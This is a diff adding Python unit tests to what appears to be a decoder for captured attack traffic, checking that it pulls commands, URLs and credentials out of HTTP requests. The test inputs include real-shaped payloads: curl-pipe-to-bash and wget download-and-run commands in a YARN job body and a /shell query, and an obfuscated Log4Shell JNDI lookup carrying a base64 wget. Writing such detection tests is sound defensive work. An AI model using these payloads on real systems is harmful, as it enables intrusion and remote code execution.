@@ -72,3 +72,35 @@ def test_answers_end_where_they_say() -> None:
 def test_a_claim_of_more_than_there_is_is_said() -> None:
     one = PROTOCOL.decode(Conversation((Turn("in", b"POST / HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\nabc"),)))
     assert "bytes of the message are missing" in one.problem
+
+
+def test_a_command_in_json_is_a_command_and_lists_of_arguments_are_joined() -> None:
+    body = (
+        b'{"am-container-spec":{"commands":{"command":"curl http://192.0.2.7/z.sh | bash"}},"Cmd":["sh","-c","id; wget 192.0.2.7/x"],"n":1}'
+    )
+    said = PROTOCOL.decode(Conversation((Turn("in", b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Length: 129\r\n\r\n" + body),)))
+    assert said.commands == ("curl http://192.0.2.7/z.sh | bash", "sh -c id; wget 192.0.2.7/x")
+    assert "http://192.0.2.7/z.sh" in said.urls
+
+
+def test_broken_and_endless_json_is_no_command() -> None:
+    for body in (b'{"a": "b; sh', b"[" * 100_000, b'{"a":' * 5000):
+        assert PROTOCOL.decode(Conversation((Turn("in", b"POST / HTTP/1.1\r\n\r\n" + body),))).commands == ()
+
+
+def test_a_whole_query_may_be_the_command() -> None:
+    said = PROTOCOL.decode(Conversation((Turn("in", b"GET /shell?cd+/tmp;wget+192.0.2.7/x;sh+x HTTP/1.1\r\n\r\n"),)))
+    assert said.commands == ("cd /tmp;wget 192.0.2.7/x;sh x",)
+
+
+def test_a_digest_login_has_its_user_and_response() -> None:
+    line = b'GET / HTTP/1.1\r\nAuthorization: Digest username="root", realm="r", nonce="n", uri="/", response="aabb"\r\n\r\n'
+    assert PROTOCOL.decode(Conversation((Turn("in", line),))).credentials == (Credential("root", "aabb", "digest"),)
+
+
+def test_what_a_lookup_asks_its_server_for_is_told() -> None:
+    line = b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://192.0.2.7:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi43L3g=}\r\n\r\n"
+    said = PROTOCOL.decode(Conversation((Turn("in", line),)))
+    assert said.commands == ("wget http://192.0.2.7/x",)
+    assert said.urls[0].startswith("ldap://192.0.2.7:1389/Basic/")
+    assert "http://192.0.2.7/x" in said.urls
